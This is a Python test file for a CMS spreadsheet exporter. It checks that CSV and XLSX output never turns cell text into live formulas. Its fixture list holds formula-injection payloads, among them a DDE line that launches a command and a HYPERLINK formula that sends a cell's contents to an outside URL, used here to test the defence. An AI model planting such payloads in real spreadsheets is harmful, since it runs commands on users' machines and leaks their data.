# SPDX-License-Identifier: AGPL-3.0-or-later
"""What leaves as a sheet is text and numbers: no cell of it is ever evaluated."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from cms.sheets import FORMULA, NOT_IN_XML, csv_out, xlsx_out

ATTACKS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.it?x="&A1)',
    "#N/A",
    "{=1}",
]


def read_back(content: bytes):
    return list(load_workbook(io.BytesIO(content)).worksheets[0].iter_rows())


def parts(content: bytes) -> str:
    """The XML of the sheet, as a program that trusts nothing would read it."""
    return zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_looks_like_a_formula_stays_text(attack):
    content = xlsx_out([attack], [[attack]], name="Registro")

    for cell in (row[0] for row in read_back(content)):
        assert cell.data_type == "s"
        assert cell.value.replace("\n", "\r") == attack
        assert cell.quotePrefix == attack.startswith(FORMULA)
    assert "<f>" not in parts(content)


def test_the_control_a_cell_left_to_be_guessed_is_a_formula():
    book, out = Workbook(write_only=True), io.BytesIO()
    book.create_sheet("x").append([ATTACKS[0]])
    book.save(out)

    assert read_back(out.getvalue())[0][0].data_type == "f"


def test_numbers_are_numbers_and_the_rest_is_text():
    values = [3, 2.5, Decimal("1.25"), True, None, float("nan"), float("inf"), 10**20, "7"]

    _titles, cells = read_back(xlsx_out(["a"] * len(values), [values], name="a/b:c"))

    assert [cell.data_type for cell in cells[:3]] == ["n", "n", "n"]
    assert [cell.value for cell in cells[:3]] == [3, 2.5, 1.25]
    assert [cell.value for cell in cells[3:]] == ["True", None, "nan", "inf", str(10**20), "7"]


words = st.text(max_size=40) | st.sampled_from(FORMULA).flatmap(lambda sign: st.text().map(sign.__add__))
values = words | st.integers() | st.floats() | st.decimals() | st.none() | st.booleans()


@given(st.lists(st.lists(values, min_size=2, max_size=2), max_size=4))
@example([["=1\x00", "\ud800=2"], [10**400, Decimal("sNaN")]])
def test_no_cell_is_a_formula_whatever_it_holds(rows):
    content = xlsx_out(["riga", "uno", "due"], [["x", *row] for row in rows], name="Registro")

    read = read_back(content)
    assert len(read) == len(rows) + 1
    assert {cell.data_type for row in read for cell in row} <= {"s", "n"}
    assert "<f>" not in parts(content)
    for given_row, row in zip(rows, read[1:], strict=True):
        for value, cell in zip(given_row, row[1:], strict=True):
            if isinstance(value, str) and "\r" not in value:
                assert (cell.value or "") == NOT_IN_XML.sub("", value)


@given(st.lists(words, min_size=1, max_size=4))
def test_no_cell_of_a_csv_begins_a_formula(cells):
    cells = [NOT_IN_XML.sub("", cell) for cell in cells]
    text = csv_out(["x"] * len(cells), [cells]).decode("utf-8-sig")

    read = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1]

    assert len(read) == len(cells)
    for value, cell in zip(cells, read, strict=True):
        assert not cell.startswith(FORMULA)
        assert cell.removeprefix("'") == value.removeprefix("'")


def test_a_text_longer_than_a_cell_is_cut():
    assert len(read_back(xlsx_out(["a"], [["x" * 40_000]], name="a"))[1][0].value) == 32_767
